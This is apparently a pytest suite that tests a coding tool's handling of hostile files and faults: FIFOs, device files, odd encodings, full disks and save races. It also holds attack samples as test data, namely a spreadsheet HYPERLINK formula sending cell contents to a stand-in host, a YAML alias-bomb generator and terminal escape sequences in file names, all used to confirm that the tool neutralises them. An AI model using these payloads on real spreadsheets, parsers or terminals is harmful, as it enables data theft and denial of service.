"""Hostile files, names and faults (issue 14), each with the real condition.

A FIFO made with `os.mkfifo`, a symlink to /dev/zero, a file name made of Latin-1 bytes,
a folder that cannot be listed, a read-only or full file system (tmpfs, when root may
mount one), `/dev/full` and a closed pipe as stdout, and a reviewer's save raced against
`code`. Every command that could hang runs in a child process under a timeout, so a hang
fails the test instead of stopping the suite.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import os
import random
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
import yaml

from dialogtool import files, yamlio
from dialogtool.coded.store import HEADER, dump_yaml, load_coded
from dialogtool.coding import workers
from dialogtool.coding.run import code_paths
from dialogtool.errors import DialogtoolError

ROOT = Path(__file__).resolve().parents[1]
CODEBOOK = ROOT / "codebook.yaml"
GOOD = ROOT / "data" / "raw" / "narvik_bord5.txt"
TIMEOUT = 120  # seconds for one command; a hang is a failure, not a stuck suite
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0


# --- helpers ---------------------------------------------------------------------------------


def run(
    *args: str | Path, cwd: Path, stdout: int | io.IOBase | None = subprocess.PIPE, **kwargs
) -> subprocess.CompletedProcess:
    """`dialogtool ARGS` in a child process, killed after TIMEOUT seconds (then the test fails)."""
    command = [sys.executable, "-m", "dialogtool", *map(str, args)]
    env = {**os.environ, "COLUMNS": "200", "NO_COLOR": "1"}
    try:
        return subprocess.run(
            command, cwd=cwd, stdout=stdout, stderr=subprocess.PIPE, timeout=TIMEOUT, env=env, **kwargs
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"hung for {TIMEOUT} s: dialogtool {' '.join(map(str, args))}")


def stderr_of(result: subprocess.CompletedProcess) -> str:
    text = result.stderr.decode("utf-8")  # fails if a surrogate or invalid byte was printed
    assert "Traceback" not in text and "Internal error" not in text, text
    return text


@pytest.fixture(autouse=True)
def alarm() -> Iterator[None]:
    """Tests that run in this process (a FIFO opened by the library, the race) fail after
    TIMEOUT * 3 seconds instead of hanging the suite."""
    if not hasattr(signal, "SIGALRM"):
        yield
        return

    def hung(signum, frame):
        raise TimeoutError(f"test still running after {TIMEOUT * 3} s")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(TIMEOUT * 3)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A working folder with notes/good.txt and the codebook."""
    (tmp_path / "notes").mkdir()
    shutil.copy(GOOD, tmp_path / "notes" / "good.txt")
    shutil.copy(CODEBOOK, tmp_path / "codebook.yaml")
    return tmp_path


def coded_project(project: Path) -> Path:
    result = run("code", "notes", "-o", "coded", "-j", "1", cwd=project)
    assert result.returncode == 0, stderr_of(result)
    return project / "coded"


def error_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("Error:")]


# --- item 1: a file name that is not UTF-8 -----------------------------------------------------


LATIN1_NAME = b"Troms\xf8 bord 2.txt"  # «Tromsø bord 2.txt» from an old Windows zip


def test_latin1_file_name_is_coded_and_read_back_by_every_command(project: Path) -> None:
    raw = os.fsencode(project / "notes") + b"/" + LATIN1_NAME
    with open(raw, "wb") as handle:
        handle.write(GOOD.read_bytes())
    empty = os.fsencode(project / "notes") + b"/tom \xe5.txt"
    with open(empty, "wb"):
        pass  # empty: its error line names it once, printably
    with open(os.fsencode(project / "notes") + b"/skjema\xe6.doc", "wb") as handle:
        handle.write(b"not a note")
    result = run("code", "notes", "-o", "coded", "-j", "1", cwd=project)
    err = stderr_of(result)
    assert result.returncode == 1, err
    assert "Skipped: notes/skjema\\xe6.doc: not a note (.doc)" in err  # a printable form of the name
    assert error_lines(err) == ["Error: notes/tom \\xe5.txt: file is empty"]
    os.unlink(empty)
    coded = project / "coded" / "Tromsø_bord_2.yaml"  # the bytes read as Windows-1252: a readable id
    document = load_coded(coded)  # loads back
    assert document.document == "Tromsø_bord_2"
    assert document.source == "notes/Troms\\xf8 bord 2.txt"
    assert yaml.safe_load(coded.read_text(encoding="utf-8"))["source"] == document.source
    for args in (
        ("table", "--coded", "coded"),
        ("quotes", "KE", "--coded", "coded", "--all"),
        ("export", "qdpx", "--coded", "coded", "-o", "out.qdpx"),
        ("code", "notes", "-o", "coded", "-j", "1", "--force"),
    ):
        again = run(*args, cwd=project)
        err = stderr_of(again)
        assert again.returncode == 0, (args, err)
        assert "rebuilt from the segments" not in err  # export found the source by its real name
    assert sorted(p.name for p in (project / "coded").glob("*.yaml")) == ["Tromsø_bord_2.yaml", "good.yaml"]


# --- item 2: FIFOs and devices ------------------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_fifo_and_dev_zero_among_the_notes_are_refused_by_name(project: Path) -> None:
    os.mkfifo(project / "notes" / "note.txt")
    os.symlink("/dev/zero", project / "notes" / "zero.txt")
    result = run("code", "notes", "-o", "coded", "-j", "1", cwd=project)
    err = stderr_of(result)
    assert result.returncode == 1
    assert error_lines(err) == [
        "Error: notes/note.txt: not read: a FIFO (named pipe), not a regular file",
        "Error: notes/zero.txt: not read: a character device, not a regular file",
    ]
    assert load_coded(project / "coded" / "good.yaml").meta["meeting"] == "Narvik"
    # the manifest as a FIFO: each note of the folder names it instead of hanging
    os.mkfifo(project / "notes" / "meta.yaml")
    result = run("code", "notes", "-o", "coded", "-j", "1", "--force", cwd=project)
    assert result.returncode == 1
    refused = "notes/meta.yaml: not read: a FIFO (named pipe), not a regular file"
    assert error_lines(stderr_of(result)) == [
        f"Error: notes/{name}: {refused}" for name in ("good.txt", "note.txt", "zero.txt")
    ]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_fifo_note_named_alone_is_refused(project: Path) -> None:
    os.mkfifo(project / "notes" / "pipe.txt")
    result = run("code", "notes/pipe.txt", "-o", "coded", "-j", "1", cwd=project)
    assert result.returncode == 1
    assert error_lines(stderr_of(result)) == [
        "Error: notes/pipe.txt: not read: a FIFO (named pipe), not a regular file"
    ]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
@pytest.mark.parametrize("kind", ["fifo", "zero"])
@pytest.mark.parametrize("command", [("table",), ("quotes", "KE")])
def test_special_file_in_the_coded_folder_stops_table_and_quotes_by_name(
    project: Path, kind: str, command: tuple[str, ...]
) -> None:
    coded = coded_project(project)
    if kind == "fifo":
        os.mkfifo(coded / "x.yaml")
        expected = "Error: coded/x.yaml: not read: a FIFO (named pipe), not a regular file"
    else:
        os.symlink("/dev/zero", coded / "x.yaml")
        expected = "Error: coded/x.yaml: not read: a character device, not a regular file"
    result = run(*command, "--coded", "coded", cwd=project)
    assert result.returncode == 2
    assert error_lines(stderr_of(result)) == [expected]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_special_files_as_codebook_or_under_the_coded_name_of_a_note(project: Path) -> None:
    os.mkfifo(project / "kb.yaml")
    result = run("code", "notes", "-c", "kb.yaml", "-o", "coded", cwd=project)
    assert result.returncode == 2
    assert error_lines(stderr_of(result)) == ["Error: kb.yaml: not read: a FIFO (named pipe), not a regular file"]
    (project / "coded").mkdir()
    os.symlink("/dev/zero", project / "coded" / "good.yaml")  # where `code` would read the old reviews
    result = run("code", "notes", "-o", "coded", "-j", "1", cwd=project)
    assert result.returncode == 1
    assert "coded/good.yaml: not read: a character device" in stderr_of(result)


def test_reader_refuses_special_files_and_bounds_regular_ones(tmp_path: Path) -> None:
    big = tmp_path / "big.txt"
    big.write_bytes(b"x" * 1001)
    with pytest.raises(DialogtoolError, match=r"big.txt: file is 1001 bytes, over the 1000 bytes limit"):
        files.read_bytes(big, 1000)
    assert files.read_bytes(big, 1001) == b"x" * 1001
    with pytest.raises(DialogtoolError, match="not read: a character device"):
        files.read_bytes(Path("/dev/zero"), 10)
    with pytest.raises(DialogtoolError, match="not read: a directory"):
        files.read_bytes(tmp_path, 10)
    if hasattr(socket, "AF_UNIX"):
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(str(tmp_path / "s.txt"))
            with pytest.raises(DialogtoolError, match=r"s\.txt: not read: a socket, not a regular file"):
                files.read_bytes(tmp_path / "s.txt", 10)
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "fifo")
        with pytest.raises(DialogtoolError, match=r"not read: a FIFO"):
            files.read_bytes(tmp_path / "fifo", 10)  # returns at once: O_NONBLOCK, then fstat


# --- item 3: a reviewer's save raced against `code` -------------------------------------------


def _save_review(path: Path, attempt: int) -> None:
    """What a reviewer's editor does: read the file, put a review on a segment, save atomically."""
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for seg in data["segments"]:
        seg.pop("review", None)
    data["segments"][REVIEWED]["review"] = {"note": f"save-{attempt}"}
    tmp = path.with_name(f".{path.name}.editor")
    tmp.write_text(HEADER + dump_yaml(data), encoding="utf-8")
    os.replace(tmp, path)


REVIEWED = 3  # a segment of the note that every attempt keeps


def _save_later(path: Path, attempt: int, delay: float) -> None:
    time.sleep(delay)
    _save_review(path, attempt)


def test_reviewer_saves_raced_against_code_are_never_lost(tmp_path: Path, codebook, monkeypatch) -> None:
    notes = tmp_path / "notes"
    notes.mkdir()
    note = notes / "race.txt"
    out = tmp_path / "coded"
    base = GOOD.read_text(encoding="utf-8")
    note.write_text(base, encoding="utf-8")
    code_paths([note], codebook, out, jobs=1)
    target = out / "race.yaml"
    conflicts = []
    replace = files.replace_if_unchanged

    def counting(path: Path, data: bytes, expected: bytes | None) -> bool:
        done = replace(path, data, expected)
        conflicts.append(not done)
        return done

    original = workers.coded_document

    def slow(*args, **kwargs):  # a busy machine: the save lands between read and write more often
        time.sleep(random.uniform(0, 0.004))
        return original(*args, **kwargs)

    monkeypatch.setattr(workers, "replace_if_unchanged", counting)
    monkeypatch.setattr(workers, "coded_document", slow)
    rng = random.Random(14)
    losses = []
    attempts = 200
    for attempt in range(attempts):
        # each run changes the note, so `code` rewrites the file; the reviewed segment stays
        note.write_text(base + f"\n\nTillegg {attempt}: pasientane treng ein koordinator.\n", encoding="utf-8")
        delay = rng.uniform(0, 0.03)
        reviewer = threading.Thread(target=_save_later, args=(target, attempt, delay))
        reviewer.start()
        summary = code_paths([note], codebook, out, jobs=1)
        reviewer.join()
        assert not summary.problems, summary.problems
        if f"note: save-{attempt}" not in target.read_text(encoding="utf-8"):
            losses.append(attempt)
    assert losses == []
    assert sum(conflicts) >= 3, f"the race was not exercised: {sum(conflicts)} conflicts in {attempts} attempts"
    final = load_coded(target)
    assert any(seg.review is not None and seg.review.note == f"save-{attempts - 1}" for seg in final.segments)


def test_replace_if_unchanged(tmp_path: Path) -> None:
    target = tmp_path / "a.yaml"
    assert files.replace_if_unchanged(target, b"new", None)  # absent, expected absent
    assert not files.replace_if_unchanged(target, b"other", None)  # it appeared: not replaced
    assert target.read_bytes() == b"new"
    assert not files.replace_if_unchanged(target, b"mine", b"old")  # changed since read
    assert target.read_bytes() == b"new"
    assert files.replace_if_unchanged(target, b"mine", b"new")
    assert target.read_bytes() == b"mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.yaml"]  # no temporary file left


# --- item 5: a folder that cannot be read --------------------------------------------------------


def _without_permission_override() -> list[str]:
    """A prefix that runs a command as root without the capabilities that ignore file modes."""
    if not IS_ROOT:
        return []
    if shutil.which("setpriv") is None:
        pytest.skip("root ignores file modes and setpriv is not there to drop that")
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--"]


def test_unreadable_sub_folder_is_reported_and_fails_the_run(project: Path) -> None:
    locked = project / "notes" / "låst"
    locked.mkdir()
    shutil.copy(GOOD, locked / "skjult.txt")
    locked.chmod(0)
    try:
        command = [*_without_permission_override(), sys.executable, "-m", "dialogtool"]
        result = subprocess.run(
            [*command, "code", "notes", "-o", "coded", "-j", "1"],
            cwd=project,
            capture_output=True,
            timeout=TIMEOUT,
        )
    finally:
        locked.chmod(0o755)
    err = stderr_of(result)
    assert result.returncode == 1, err
    assert error_lines(err) == ["Error: notes/låst: cannot read folder: permission denied; its notes are not coded"]
    assert (project / "coded" / "good.yaml").exists()


def test_unreadable_note_is_reported_by_name(project: Path) -> None:
    locked = project / "notes" / "låst.txt"
    shutil.copy(GOOD, locked)
    locked.chmod(0)
    try:
        command = [*_without_permission_override(), sys.executable, "-m", "dialogtool"]
        result = subprocess.run(
            [*command, "code", "notes", "-o", "coded", "-j", "1"], cwd=project, capture_output=True, timeout=TIMEOUT
        )
    finally:
        locked.chmod(0o644)
    assert result.returncode == 1
    assert error_lines(stderr_of(result)) == ["Error: notes/låst.txt: cannot read file: permission denied"]


# --- item 6: one Windows-1252 line in a UTF-8 note -------------------------------------------------


def test_one_windows_1252_line_in_a_utf8_note(project: Path) -> None:
    lines = [
        "Dialogmøte i Tromsø 12.10.2018".encode(),
        "Kafébord 2 – Koordinerende enhet".encode(),
        b"",
        "Brukarane på Sjøvegan fortalde om koordinator og individuell plan.".encode("cp1252"),  # line 4
        b"",
        "Fastlegen og kommunen må samarbeide betre om pasientforløp.".encode(),
    ]
    (project / "notes" / "blandet.txt").write_bytes(b"\n".join(lines) + b"\n")
    result = run("code", "notes", "-o", "coded", "-j", "1", cwd=project)
    err = stderr_of(result)
    assert result.returncode == 0, err
    assert "Warning: notes/blandet.txt: mixed encodings: line 4 not UTF-8, read as Windows-1252" in err
    document = load_coded(project / "coded" / "blandet.yaml")
    assert document.meta["meeting"] == "Tromsø"
    text = "\n".join(seg.text for seg in document.segments)
    assert "Sjøvegan" in text and "Ã" not in text
    assert document.encoding == "utf-8+cp1252"


def test_a_plain_windows_1252_note_is_not_called_mixed(project: Path) -> None:
    (project / "notes" / "ansi.txt").write_bytes("Dialogmøte i Bodø\n\nKoordinator og æøå.\n".encode("cp1252"))
    result = run("code", "notes", "-o", "coded", "-j", "1", cwd=project)
    assert "Warning" not in stderr_of(result)
    assert load_coded(project / "coded" / "ansi.yaml").encoding == "cp1252"


# --- item 8: YAML limits ---------------------------------------------------------------------------


def _alias_bomb(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_alias_bomb_in_meta_yaml_is_refused_at_once(project: Path) -> None:
    bomb = _alias_bomb() + "good.txt:\n  meeting: Alta\n  topic: *a8\n"
    (project / "notes" / "meta.yaml").write_text(bomb, encoding="utf-8")
    result = run("code", "notes", "-o", "coded", "-j", "1", cwd=project)
    err = stderr_of(result)
    assert result.returncode == 1
    assert "notes/meta.yaml:" in err and "alias bomb" in err, err


def test_deeply_nested_codebook_is_refused_with_a_line(project: Path) -> None:
    depth = 900  # under libyaml's own limit of 1000, far over ours
    (project / "deep.yaml").write_text(
        "themes:\n  - id: X\n    x: " + "[" * depth + "]" * depth + "\n", encoding="utf-8"
    )
    result = run("code", "notes", "-c", "deep.yaml", "-o", "coded", cwd=project)
    assert result.returncode == 2
    assert error_lines(stderr_of(result)) == [
        f"Error: deep.yaml:3: YAML nested more than {yamlio.MAX_DEPTH} levels deep"
    ]


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def test_yaml_limits_in_every_reader() -> None:
    # nesting: the limit itself passes, one more level fails, in parse and compose alike
    assert yamlio.parse(_nested(yamlio.MAX_DEPTH), "t") is not None
    for read in (yamlio.parse, yamlio.compose):
        with pytest.raises(DialogtoolError, match="nested more than"):
            read(_nested(yamlio.MAX_DEPTH + 1), "t.yaml")
    # 9**8 = 43,046,721 strings once expanded, from 600 characters: refused
    with pytest.raises(DialogtoolError, match=r"t.yaml:\d+: YAML aliases expand"):
        yamlio.parse(_alias_bomb(), "t.yaml")
    with pytest.raises(DialogtoolError, match="YAML aliases expand"):
        yamlio.compose(_alias_bomb(), "t.yaml")
    # a modest use of anchors, as in a hand-written codebook, is fine
    shared = "common: &c [a, b, c]\nx: *c\ny: *c\n"
    assert yamlio.parse(shared, "t") == {"common": ["a", "b", "c"], "x": ["a", "b", "c"], "y": ["a", "b", "c"]}
    # an alias inside its own anchor: a cycle
    with pytest.raises(DialogtoolError, match="contains it"):
        yamlio.parse("a: &a [1, *a]\n", "t.yaml")


def test_alias_bomb_in_a_coded_file_is_refused(project: Path) -> None:
    coded = coded_project(project)
    (coded / "bomb.yaml").write_text(_alias_bomb(), encoding="utf-8")
    result = run("table", "--coded", "coded", cwd=project)
    assert result.returncode == 2
    assert "coded/bomb.yaml:" in stderr_of(result)


# --- item 9: spreadsheet safety --------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Alta")'
HOSTILE_CELLS = (FORMULA, "+47 999", "-1+1", "@SUM(A1)", "\tTab", "\rCR")


@pytest.fixture
def formula_project(project: Path) -> Path:
    manifest = {"good.txt": {"meeting": FORMULA, "topic": "@SUM(1+1)"}}
    (project / "notes" / "meta.yaml").write_text(yaml.safe_dump(manifest, allow_unicode=True), encoding="utf-8")
    coded_project(project)
    return project


def test_formula_in_metadata_is_text_in_xlsx(formula_project: Path) -> None:
    result = run("table", "--coded", "coded", "-f", "xlsx", "-o", "t.xlsx", cwd=formula_project)
    assert result.returncode == 0, stderr_of(result)
    result = run("report", "--coded", "coded", "-o", "rapport", cwd=formula_project)
    assert result.returncode == 0, stderr_of(result)
    for book_path in (formula_project / "t.xlsx", formula_project / "rapport" / "themes.xlsx"):
        book = openpyxl.load_workbook(book_path)
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], book_path
        found = [c for c in cells if c.value == FORMULA]
        assert found, book_path
        assert all(c.data_type == "s" and c.quotePrefix for c in found)


def test_xlsx_writer_keeps_every_formula_start_as_text(tmp_path: Path) -> None:
    from dialogtool.output.xlsx import save_book

    def rows(sheet, data) -> None:
        for value in data:
            sheet.append([value, 1])

    save_book([("t", rows, HOSTILE_CELLS)], tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [(r[0].value, r[0].data_type, r[0].quotePrefix) for r in sheet.iter_rows()] == [
        (value, "s", True) for value in HOSTILE_CELLS
    ]
    assert [r[1].data_type for r in sheet.iter_rows()] == ["n"] * len(HOSTILE_CELLS)


def test_formula_in_metadata_is_neutralised_in_csv(formula_project: Path) -> None:
    table = run("table", "--coded", "coded", "-f", "csv", "--by", "meeting", cwd=formula_project)
    assert table.returncode == 0, stderr_of(table)
    header = next(csv.reader(io.StringIO(table.stdout.decode("utf-8"))))
    assert "'" + FORMULA in header
    quotes = run("quotes", "GRUPPER", "--coded", "coded", "-f", "csv", cwd=formula_project)
    assert quotes.returncode == 0, stderr_of(quotes)
    rows = list(csv.DictReader(io.StringIO(quotes.stdout.decode("utf-8"))))
    assert rows and {row["meeting"] for row in rows} == {"'" + FORMULA}
    for row in rows:  # no cell of any row may start a formula
        assert not [v for v in row.values() if v.startswith(("=", "+", "-", "@", "\t", "\r"))], row


def test_csv_prefix_per_owasp() -> None:
    from dialogtool.output.delimited import neutral

    assert [neutral(v) for v in HOSTILE_CELLS] == ["'" + v for v in HOSTILE_CELLS]
    assert [neutral(v) for v in ("Alta", " -x", -3, 2.5, "", "-2,5", "+12 %")] == [
        "Alta",
        " -x",
        -3,
        2.5,
        "",
        "-2,5",
        "'+12 %",
    ]


# --- item 10: control characters in names ----------------------------------------------------------


def test_escape_sequences_in_file_names_are_not_sent_to_the_terminal(project: Path) -> None:
    name = "bad\x1b]0;pwned\x07\x1b[2J\u202e.doc"
    (project / "notes" / name).write_bytes(b"x")
    (project / "notes" / "tom\x1b[31m.txt").write_bytes(b"")
    result = run("code", "notes", "-o", "coded", "-j", "1", cwd=project)
    err = stderr_of(result)
    assert "\x1b" not in err and "\x07" not in err and "\u202e" not in err
    assert "Skipped: notes/bad\\x1b]0;pwned\\x07\\x1b[2J\\u202e.doc: not a note (.doc)" in err
    assert "Error: notes/tom\\x1b[31m.txt: file is empty" in err


def test_safe_escapes_what_a_terminal_acts_on() -> None:
    from dialogtool.cli.console import safe

    assert safe("a\x1b[1mb\x9bc\x7f\x00d") == "a\\x1b[1mb\\x9bc\\x7f\\x00d"
    assert safe("Tromsø\tbord\n2") == "Tromsø\tbord\n2"
    assert safe(os.fsdecode(b"Troms\xf8")) == "Troms\\xf8"
    assert safe("\u202eabc\u2066") == "\\u202eabc\\u2066"


# --- item 11: errors on writing --------------------------------------------------------------------


def test_table_to_dev_full_is_one_line(project: Path) -> None:
    coded_project(project)
    with open("/dev/full", "wb") as full:
        for args in (("table",), ("table", "-f", "csv"), ("quotes", "KE"), ("--help",)):
            result = (
                run(*args, "--coded", "coded", cwd=project, stdout=full)
                if args != ("--help",)
                else run(*args, cwd=project, stdout=full)
            )
            assert result.returncode == 1, args
            assert stderr_of(result).splitlines() == ["Error: cannot write to standard output: no space left on device"]


def test_closed_stdout_is_quiet(project: Path) -> None:
    coded = coded_project(project)
    for i in range(30):  # enough output to fill the pipe
        shutil.copy(coded / "good.yaml", coded / f"kopi{i}.yaml")
    read, write = os.pipe()
    os.close(read)  # the reader is gone before the first byte: EPIPE
    try:
        result = run("quotes", "KE", "--coded", "coded", "--all", cwd=project, stdout=write)
    finally:
        os.close(write)
    assert result.returncode == 1
    assert stderr_of(result) == ""


def test_write_errors_name_the_file(tmp_path: Path, monkeypatch) -> None:
    for code, text in (
        (errno.ENOSPC, "no space left on device"),
        (errno.EIO, "input/output error"),
        (errno.EACCES, "permission denied"),
        (errno.EROFS, "read-only file system"),
    ):

        def failing(src, dst, code=code):
            raise OSError(code, os.strerror(code))

        monkeypatch.setattr(os, "replace", failing)
        with pytest.raises(DialogtoolError) as info:
            files.write_text(tmp_path / "x.yaml", "data")
        assert str(info.value) == f"{tmp_path / 'x.yaml'}: cannot write: {text}"
    assert list(tmp_path.iterdir()) == []


@contextlib.contextmanager
def tmpfs(where: Path, options: str) -> Iterator[Path]:
    where.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)], capture_output=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.decode(errors='replace').strip()}")
    try:
        yield where
    finally:
        subprocess.run(["umount", str(where)], check=True)


@pytest.mark.skipif(not IS_ROOT, reason="mounting a tmpfs needs root")
def test_read_only_and_full_file_systems(project: Path) -> None:
    coded = coded_project(project)
    with tmpfs(project / "ro", "ro,size=1m"):
        result = run("table", "--coded", "coded", "-f", "csv", "-o", "ro/t.csv", cwd=project)
        assert result.returncode == 2
        assert error_lines(stderr_of(result)) == ["Error: ro/t.csv: cannot write: read-only file system"]
        result = run("code", "notes", "-o", "ro/coded", "-j", "1", cwd=project)
        assert result.returncode == 1
        assert error_lines(stderr_of(result)) == [
            "Error: notes/good.txt: ro/coded/good.yaml: cannot write: read-only file system"
        ]
    with tmpfs(project / "full", "size=256k"):
        shutil.copy(coded / "good.yaml", project / "full" / "good.yaml")
        before = (project / "full" / "good.yaml").read_bytes()
        with contextlib.suppress(OSError), open(project / "full" / "filler", "wb", buffering=0) as filler:
            while True:  # fill the file system to the last block
                filler.write(b"\0" * 4096)
        with open(project / "notes" / "good.txt", "a", encoding="utf-8") as note:
            note.write("\nEin ny setning om koordinator, så fila må skrivast på nytt.\n")
        result = run("code", "notes", "-o", "full", "-j", "1", cwd=project)
        assert result.returncode == 1
        errors = error_lines(stderr_of(result))
        assert errors == ["Error: notes/good.txt: full/good.yaml: cannot write: no space left on device"], errors
        assert (project / "full" / "good.yaml").read_bytes() == before  # the old file is whole
        assert sorted(p.name for p in (project / "full").iterdir() if not p.name.startswith(".dialogtool")) == [
            "filler",
            "good.yaml",
        ]


def test_permission_denied_on_the_output_folder(project: Path) -> None:
    coded = coded_project(project)
    target = project / "locked"
    target.mkdir()
    target.chmod(stat.S_IRUSR | stat.S_IXUSR)
    try:
        command = [*_without_permission_override(), sys.executable, "-m", "dialogtool"]
        result = subprocess.run(
            [*command, "table", "--coded", str(coded), "-f", "csv", "-o", "locked/t.csv"],
            cwd=project,
            capture_output=True,
            timeout=TIMEOUT,
        )
    finally:
        target.chmod(0o755)
    assert result.returncode == 2
    assert error_lines(stderr_of(result)) == ["Error: locked/t.csv: cannot write: permission denied"]


def test_a_review_saved_by_the_tool_does_not_overwrite_a_save_in_between(tmp_path: Path, monkeypatch) -> None:
    """`write_review` (the review screen) reads, changes one block and writes: a save by someone
    else between its read and its write is read again, both reviews kept."""
    from dialogtool.coded import store
    from dialogtool.coded.note import Review

    target = tmp_path / "good.yaml"
    shutil.copy(ROOT / "data" / "coded" / "narvik_bord5.yaml", target)
    ids = [seg.id for seg in load_coded(target).segments]
    original = store.parse_note
    calls = []

    def parse_then_someone_saves(text: str, where):
        note = original(text, where)
        if not calls:  # the first read: a colleague's editor saves a review on another segment now
            _save_review(target, 7)
        calls.append(where)
        return note

    monkeypatch.setattr(store, "parse_note", parse_then_someone_saves)
    store.write_review(target, ids[0], Review(note="mine"))
    assert len(calls) == 2  # read, refused to overwrite, read again
    notes = {seg.id: seg.review.note for seg in load_coded(target).segments if seg.review is not None}
    assert notes == {ids[0]: "mine", ids[REVIEWED]: "save-7"}
